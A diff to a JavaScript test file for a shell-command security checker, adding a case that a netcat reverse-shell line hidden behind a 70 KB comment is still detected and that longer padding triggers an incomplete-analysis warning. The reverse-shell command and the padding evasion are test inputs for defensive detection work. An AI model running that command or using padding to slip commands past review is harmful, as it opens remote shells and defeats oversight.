@@ -47,7 +47,18 @@ test('a syntax tree cut at its node limit is reported (it used to be silent) and
   assert.equal(checkCommand(t).verdict, 'deny');
 });
 
-test('limits that padding does not reach still only warn (input cut, nesting depth)', () => {
+test('a command up to the kernel\'s one-argument limit is analysed whole (a user review, session 41: a 70 KB comment hid nc -e from the old 64 KiB cut); past it the cut warns', () => {
+  const padded = `#${'x'.repeat(70_000)}\nnc -e /bin/sh 198.51.100.9 4444`;
+  assert.ok(rules(padded).includes('cmd_netcat_exec:critical'), rules(padded).join());
+  assert.deepEqual(analyzer.analyze(padded).incomplete, []);
+  // a 100 KB heredoc writing data is ordinary and complete, not a finding
+  const heredoc = `cat > rows.csv <<'EOF'\n${'a,b,c\n'.repeat(20_000)}EOF`;
+  assert.deepEqual(rules(heredoc), []);
+  const past = `#${'x'.repeat(140_000)}\nnc -e /bin/sh 198.51.100.9 4444`;
+  assert.ok(rules(past).includes('cmd_analysis_incomplete:medium'), rules(past).join());
+});
+
+test('limits that padding does not reach still only warn (nesting depth)', () => {
   let t = 'ls';
   for (let i = 0; i < 12; i++) t = `bash -c ${JSON.stringify(t)}`;
   const r = checkCommand(t);
